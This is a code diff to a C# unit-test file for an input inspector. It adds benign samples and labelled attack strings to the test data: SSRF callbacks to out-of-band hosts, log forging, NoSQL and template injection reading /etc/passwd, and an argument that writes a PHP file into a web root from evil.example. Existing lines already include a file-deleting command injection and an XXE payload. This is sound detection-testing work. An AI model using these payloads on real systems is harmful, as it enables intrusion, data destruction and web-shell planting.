@@ -150,6 +150,8 @@ public sealed class PayloadInspectorTests
         "Condition?code=http://snomed.info/sct|44054006&onset-date=ge2020-01-01",
         "Amendment #3 (v1.2, 04-Feb-2025); IRB #448120",
         "{\"rules\":[{\"field\":\"status\",\"op\":\"in\",\"value\":[\"open\",\"pending\"]}],\"sort\":\"-created\"}",
+        "Below pH 7 the solution is acidic; at pH 7 it is neutral.",
+        "Accuracy = (TP + TN) / total, which is misleading on imbalanced data.",
     ];
 
     public static TheoryData<string, InspectionCategory> Attacks() => new()
@@ -332,6 +334,15 @@ public sealed class PayloadInspectorTests
         { "x;sleep 7;#", InspectionCategory.Cmdi },
         { "notes.txt && del /s /q C:\\data\\*", InspectionCategory.Cmdi },
         { "<?xml version=\"1.0\" encoding=\"UTF-7\"?>+ADw-!DOCTYPE x +AFs-+ADw-!ENTITY y SYSTEM +ACI-file:///etc/passwd+ACI-+AD4-+AF0-+AD4-", InspectionCategory.Xxe },
+        { "Great service! <img src=//a1b2c3.oast.fun/p.png>", InspectionCategory.Ssrf },
+        { "https://q7w8e9.oastify.com/cb", InspectionCategory.Ssrf },
+        { "ok\u001b[2K\u001b[1AUser root logged in", InspectionCategory.Crlf },
+        { "svc-backup\n2026-01-02T03:04:05Z backup verified", InspectionCategory.Crlf },
+        { "Eve\nWARN 2026-01-02 quota raised for eve", InspectionCategory.Crlf },
+        { "2; return this.balance > 0", InspectionCategory.Nosqli },
+        { "--output=/var/www/app/public/x.php http://evil.example/x", InspectionCategory.Cmdi },
+        { "[% USE f = File('/etc/passwd') %]", InspectionCategory.Ssti },
+        { "http://cdn.127.0.0.1.nip.io/", InspectionCategory.Ssrf },
     };
 
     [Theory]
